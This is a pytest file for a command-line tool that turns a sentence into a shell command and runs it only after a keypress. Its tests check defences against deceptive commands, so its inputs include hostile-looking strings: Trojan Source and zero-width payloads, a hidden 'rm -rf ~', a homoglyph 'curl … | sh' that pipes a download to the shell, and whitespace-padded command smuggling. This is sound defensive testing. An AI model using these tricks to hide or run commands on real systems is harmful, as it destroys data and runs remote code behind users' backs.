"""`chatcli cmd` and `chatcli shell-init`: a sentence becomes a command that runs only when a
person presses e, driven on a real pseudo-terminal."""

from __future__ import annotations

import os
import re
import sqlite3

import pexpect
import pytest

from chatcli.cli.shellcmd import command_of
from tests.conftest import TEST_KEY
from tests.fake_server import Reply
from tests.terminal import BIN, expect, seen, spawn

MENU = r"\[a\]bort \(Enter, Esc\)"


@pytest.mark.parametrize(("reply", "command"), [
    ("ls -la", "ls -la"),
    ("```bash\nfind . -size +100M\n```", "find . -size +100M"),
    ("`du -sh *`", "du -sh *"),
    ("$ git status", "git status"),
    ("Here:\n```sh\n$ a && b\n```\nDone.", "a && b"),
])
def test_the_command_is_taken_out_of_whatever_the_model_wrapped_it_in(reply, command):
    assert command_of(reply) == command


def test_not_on_a_terminal_the_command_is_printed_and_never_run(run, endpoint, tmp_path, db):
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"touch {marker}"))
    result = run("cmd", "make", "a", "file")
    assert result.code == 0 and result.stdout == f"touch {marker}\n"
    assert not marker.exists()
    system = endpoint.chat_requests[0]["messages"][0]["content"]
    assert "exactly one shell command" in system
    outcome = sqlite3.connect(db).execute("SELECT outcome FROM messages WHERE role = 'assistant'").fetchall()
    assert outcome == [("printed, not run",)]


def test_in_ci_on_a_terminal_it_is_printed_too(endpoint, tmp_path):
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"touch {marker}"))
    child = spawn_cmd(endpoint, tmp_path, "make a file", CI="true")
    child.expect(pexpect.EOF)
    assert f"touch {marker}" in seen(child) and "[e]xecute" not in seen(child)
    assert not marker.exists()


def test_nothing_to_do_is_a_usage_error(run, endpoint):
    assert run("cmd").code == 2


def spawn_cmd(endpoint, tmp_path, request: str, **env: str):
    return spawn(endpoint, tmp_path, "cmd", request, cwd=str(tmp_path), rows=30,
                 **{"SHELL": "/bin/sh", "CI": "", **env})


def outcomes(tmp_path) -> list[tuple[str]]:
    db = sqlite3.connect(tmp_path / "data" / "chatcli.db")
    return db.execute("SELECT outcome FROM messages WHERE role = 'assistant' ORDER BY id").fetchall()


def test_e_runs_the_command_in_the_shell_and_its_exit_code_comes_back(endpoint, tmp_path):
    endpoint.queue(Reply(text="echo hi-from-$((40+2)) && pwd && exit 3"))
    child = spawn_cmd(endpoint, tmp_path, "say hi then fail")
    expect(child, MENU)
    assert "echo hi-from-$((40+2)) && pwd && exit 3" in seen(child)
    child.send("e")
    child.expect(pexpect.EOF)
    child.close()
    assert "hi-from-42" in seen(child) and str(tmp_path) in seen(child)  # this directory
    assert child.exitstatus == 3
    assert outcomes(tmp_path) == [("ran, exit 3",)]


@pytest.mark.parametrize(("keys", "status"), [("\r", 0), ("a", 0), ("\x1b", 0), ("\x03", 130)])
def test_anything_but_e_runs_nothing_and_enter_is_abort(keys, status, endpoint, tmp_path):
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"touch {marker}"))
    child = spawn_cmd(endpoint, tmp_path, "make a file")
    expect(child, MENU)
    child.send(keys)
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == status and "nothing was run" in seen(child)
    assert not marker.exists()
    assert outcomes(tmp_path) == [("not run",)]


def test_an_unknown_key_shows_the_menu_again_and_waits_for_a_new_key(endpoint, tmp_path):
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"touch {marker}"))
    child = spawn_cmd(endpoint, tmp_path, "make a file")
    expect(child, MENU)
    child.send("xe")  # the e came with the x, before the menu was drawn again: thrown away
    expect(child, MENU)
    child.send("\r")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0 and not marker.exists() and outcomes(tmp_path) == [("not run",)]


def test_r_revises_in_the_same_conversation(endpoint, tmp_path):
    endpoint.queue(Reply(text="ls"), Reply(text="ls -la"))
    child = spawn_cmd(endpoint, tmp_path, "list files")
    expect(child, MENU)
    child.send("r")
    expect(child, "revise: ")
    child.send("include hidden ones\r")
    expect(child, MENU)
    assert "ls -la" in seen(child)
    child.send("a")
    child.expect(pexpect.EOF)
    second = endpoint.chat_requests[1]["messages"]
    assert [m["content"] for m in second[1:]] == ["list files", "ls", "include hidden ones"]


def test_d_describes_the_command_with_the_describe_role_then_asks_again(endpoint, tmp_path):
    endpoint.queue(Reply(text="rm -rf build"), Reply(text="Deletes the build directory, for good."))
    child = spawn_cmd(endpoint, tmp_path, "clean up")
    expect(child, MENU)
    child.send("d")
    expect(child, MENU)
    assert "Deletes the build directory, for good." in seen(child)
    child.send("\r")
    child.expect(pexpect.EOF)
    described = endpoint.chat_requests[1]["messages"]
    assert "Explain the shell command" in described[0]["content"]
    assert described[1:] == [{"role": "user", "content": "rm -rf build"}]


def test_the_describe_role_takes_its_place_in_the_merge_under_the_environment(endpoint, tmp_path):
    config = tmp_path / "config.toml"
    config.write_text('[roles.describe]\nmodel = "describe-model"\ntemperature = 0.3\n')
    endpoint.queue(Reply(text="rm -rf build"), Reply(text="Deletes it."))
    child = spawn_cmd(endpoint, tmp_path, "clean up", CHATCLI_CONFIG=str(config))
    expect(child, MENU)
    child.send("d")
    expect(child, MENU)
    child.send("\r")
    child.expect(pexpect.EOF)
    described = endpoint.chat_requests[1]
    assert described["temperature"] == 0.3  # the role's own setting
    assert described["model"] == "test-model"  # CHATCLI_MODEL comes after roles, and stays


def test_c_copies_the_command_with_osc_52_and_runs_nothing(endpoint, tmp_path):
    import base64

    endpoint.queue(Reply(text="df -h"))
    child = spawn_cmd(endpoint, tmp_path, "disk space")
    expect(child, MENU)
    child.send("c")
    child.expect(pexpect.EOF)
    assert f"\x1b]52;c;{base64.b64encode(b'df -h').decode()}\a" in child.before
    assert outcomes(tmp_path) == [("copied, not run",)]


def test_a_command_with_control_characters_is_not_offered(run, endpoint):
    endpoint.queue(Reply(text="echo \x1b]52;c;aGk=\x07"))
    result = run("cmd", "anything")
    assert result.code == 6 and "control character ^[" in result.stderr and "\x1b" not in result.stderr
    assert result.stdout == ""


# --- shell-init -----------------------------------------------------------------------


@pytest.mark.parametrize(("shell", "binding"), [("bash", "bind -x '\"\\C-x\\C-g\": __chatcli_cmd'"),
                                                ("zsh", "bindkey '^X^G' __chatcli_cmd"),
                                                ("fish", r"bind \cx\cg __chatcli_cmd")])
def test_shell_init_prints_a_binding_that_calls_cmd(shell, binding, run):
    text = run("shell-init", shell).stdout
    assert binding in text and " cmd --one-line -- " in text and "nothing runs by itself" in text


def test_shell_init_for_an_unknown_shell_is_a_usage_error(run):
    result = run("shell-init", "tcsh")
    assert result.code == 2 and "bash, zsh or fish" in result.stderr


def test_the_bash_binding_puts_the_command_on_the_line_and_runs_nothing(endpoint, tmp_path):
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"touch {marker}"))
    env = {**os.environ, "OPENAI_BASE_URL": endpoint.base_url, "OPENAI_API_KEY": TEST_KEY,
           "CHATCLI_MODEL": "test-model", "CHATCLI_DATA_DIR": str(tmp_path / "data"), "TERM": "xterm",
           "PS1": "$ ", "INPUTRC": "/dev/null"}
    child = pexpect.spawn("bash", ["--norc", "--noprofile", "-i"], env=env, encoding="utf-8", timeout=20,
                          dimensions=(24, 120))
    child.expect_exact("$ ")
    child.sendline(f'eval "$({BIN} shell-init bash)"')
    child.expect_exact("$ ")
    child.send("make a marker file")
    child.send("\x18\x07")  # Ctrl-X Ctrl-G
    child.expect_exact(f"touch {marker}")
    assert not marker.exists()  # on the line, not run
    child.send("\x15")  # Ctrl-U: the user decides not to run it
    child.sendline("echo done-$((1+1))")
    child.expect_exact("done-2")
    child.sendline("exit")
    child.expect(pexpect.EOF)
    assert not marker.exists()
    assert endpoint.chat_requests[0]["messages"][-1]["content"] == "make a marker file"


def test_a_reasoning_models_thinking_shows_as_time_then_the_command(endpoint, tmp_path):
    endpoint.queue(Reply(text="uptime", reasoning="let me think " * 60, chunk_chars=13, delay=0.03))
    child = spawn_cmd(endpoint, tmp_path, "how long has it been up")
    expect(child, r"thinking… \d+ s")
    expect(child, MENU)
    assert "uptime" in seen(child) and "let me think" not in seen(child)
    child.send("a")
    child.expect(pexpect.EOF)


# --- what runs is what was seen (issue 19) ------------------------------------------------


def test_a_key_typed_before_the_menu_is_drawn_answers_nothing(endpoint, tmp_path):
    """Type-ahead: `e` typed while the model still answers must not run the command once the
    menu appears; only a key pressed after the menu is on screen counts."""
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"touch {marker}", chunk_chars=2, delay=0.15))
    child = spawn_cmd(endpoint, tmp_path, "make a file")
    expect(child, "asking test-model")
    child.send("exit\r")  # typed ahead, while the reply streams: "e" would have run it
    expect(child, MENU)
    assert not marker.exists()
    child.send("a")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0 and not marker.exists()
    assert outcomes(tmp_path) == [("not run",)]


def test_a_key_typed_while_the_command_is_on_screen_but_the_menu_is_not_is_thrown_away():
    """The pause between the command and its menu: a key typed then (too soon to be a
    reply to what appeared) is thrown away; the key after the menu is the answer."""
    import threading
    import time

    from chatcli.cli.shellcmd import read_key

    master, slave = os.openpty()
    keyboard, screen = os.fdopen(slave, "r"), os.fdopen(os.dup(slave), "w")
    answer: list[str] = []
    reader = threading.Thread(target=lambda: answer.append(
        read_key("menu> ", settle=1.5, keyboard=keyboard, screen=screen)))
    reader.start()
    time.sleep(0.2)
    os.write(master, b"e")  # within the pause
    drawn = b""
    while b"menu> " not in drawn:
        drawn += os.read(master, 100)
    os.write(master, b"a")
    reader.join(10)
    assert answer == ["a"]
    keyboard.close()
    screen.close()
    os.close(master)


def test_a_command_of_several_lines_is_shown_whole_numbered_with_its_blank_lines(endpoint, tmp_path):
    endpoint.queue(Reply(text="```sh\nmkdir -p out\n\n\ncd out && ls\n```"))
    child = spawn_cmd(endpoint, tmp_path, "make a dir")
    expect(child, MENU)
    shown = seen(child)
    assert "a command of 4 lines" in shown
    for line in ("1 │ mkdir -p out", "2 │  (blank line)", "3 │  (blank line)", "4 │ cd out && ls"):
        assert line in shown
    child.send("a")
    child.expect(pexpect.EOF)


@pytest.mark.parametrize("padding", ["\n" * 60, "\n:" * 60])
def test_a_command_taller_than_the_screen_is_refused_not_scrolled(padding, endpoint, tmp_path):
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"touch {marker}{padding}\nls -la"))
    child = spawn_cmd(endpoint, tmp_path, "list files")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 6 and "too tall to be shown whole" in seen(child)
    assert "[e]xecute" not in seen(child) and not marker.exists()
    assert outcomes(tmp_path) == [("too tall, not run",)]


def test_spaces_keep_their_width_so_a_long_run_of_them_is_seen_or_refused(endpoint, tmp_path):
    """3,000 spaces used to fold into one line break on screen, hiding how the line runs on."""
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"echo safe{' ' * 3000}; touch {marker}"), Reply(text=f"echo a{' ' * 150}b"))
    child = spawn_cmd(endpoint, tmp_path, "say safe")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 6 and "too tall" in seen(child) and not marker.exists()
    child = spawn_cmd(endpoint, tmp_path, "say a b")  # 157 columns on a 100-column screen
    expect(child, MENU)
    rows = [line.rstrip("\r") for line in seen(child).split("\n") if "┆" in line or "│" in line]
    assert len(rows) == 2 and rows[0].startswith("1 │ echo a") and rows[1].lstrip().startswith("┆")
    assert rows[1].rstrip().endswith("b") and len(rows[1].split("┆ ")[1]) == 157 - (100 - 4)
    child.send("a")
    child.expect(pexpect.EOF)


TROJAN = [
    "ls -la \u2067; touch X \u2066#\u2069\u2069",  # Trojan Source: the touch looks commented out
    "echo a\u202e txt.exe",  # right-to-left override
    "rm -rf\u200b /tmp/x",  # zero-width space
    "echo ok\u2028rm -rf ~",  # line separator
    "echo hi\U000e0072\U000e006d",  # tag characters: invisible text
    "ls\u00a0-la\ufeff",  # a zero-width no-break space after an ordinary-looking line
]


@pytest.mark.parametrize("command", TROJAN)
def test_bidi_zero_width_and_tag_characters_are_refused_and_named(command, run, endpoint):
    endpoint.queue(Reply(text=command))
    result = run("cmd", "anything")
    assert result.code == 6 and result.stdout == ""
    assert "invisible or direction-changing characters" in result.stderr and "U+" in result.stderr
    assert not set(result.stderr) & set("\u2067\u2066\u2069\u202e\u200b\u2028\U000e0072\ufeff")


def test_on_a_terminal_such_a_command_is_never_offered(endpoint, tmp_path):
    marker = tmp_path / "ran.txt"
    endpoint.queue(Reply(text=f"ls -la \u2067; touch {marker} \u2066#\u2069\u2069"))
    child = spawn_cmd(endpoint, tmp_path, "list")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 6 and "U+2067 at line 1, column 8" in seen(child)
    assert "[e]xecute" not in seen(child) and "\u2067" not in child.before and not marker.exists()


def test_non_ascii_characters_are_marked_and_named(endpoint, tmp_path, run):
    endpoint.queue(Reply(text="curl -fsSL https://get.exаmple.com | sh"))  # a Cyrillic а
    child = spawn_cmd(endpoint, tmp_path, "install it")
    expect(child, MENU)
    assert "а U+0430 CYRILLIC SMALL LETTER A" in seen(child)
    assert re.search("\x1b\\[[0-9;]*7[0-9;]*mа", child.before)  # in reverse video where it stands
    child.send("a")
    child.expect(pexpect.EOF)
    endpoint.queue(Reply(text="ls 报告.txt"))
    result = run("cmd", "list it")  # printed for a pipe: the warning goes to stderr
    assert result.stdout == "ls 报告.txt\n" and "报 U+62A5" in result.stderr


def test_the_key_binding_refuses_a_command_of_several_lines(run, endpoint):
    endpoint.queue(Reply(text="cd /tmp\nrm -rf *"), Reply(text="cd /tmp\nls"))
    result = run("cmd", "--one-line", "--", "clean tmp")
    assert result.code == 6 and result.stdout == "" and "has 2 lines" in result.stderr
    assert run("cmd", "clean tmp").stdout == "cd /tmp\nls\n"  # not for the binding: printed
